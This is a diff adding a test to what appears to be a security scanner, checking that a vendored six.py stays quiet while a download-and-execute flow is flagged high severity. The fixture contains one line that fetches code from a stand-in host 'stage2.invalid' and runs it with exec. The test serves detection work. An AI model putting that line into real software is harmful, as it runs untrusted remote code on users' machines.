@@ -310,3 +310,13 @@ def test_gated_search_finds_what_a_whole_text_search_finds():
             want, got = pattern.search(text), gated_search(pattern, text, text.lower(), gates)
             assert (want and want.span()) == (got and got.span())
     assert gated_search(re.compile("b"), "a" * 10 + "b", "a" * 10 + "b", ("b",)).start() == 10
+
+
+def test_vendored_six_with_exec_and_urllib_names_is_quiet(tmp_path):
+    # six (vendored by botocore, awscli) defines exec_ and aliases urllib: no flow between them
+    six = ("import urllib.request\n"
+           "def exec_(code, globs=None):\n    exec(code, globs)\n"
+           "def fetch(url):\n    return urllib.request.urlopen(url)\n")
+    assert "download_execute" not in {i.id for i in _scan(tmp_path, {"botocore/vendored/six.py": six})}
+    flow = "import urllib.request\nexec(urllib.request.urlopen('http://stage2.invalid/p').read())\n"
+    assert _sev(_scan(tmp_path / "b", {"ok/run.py": flow}), "download_execute") == {"high"}
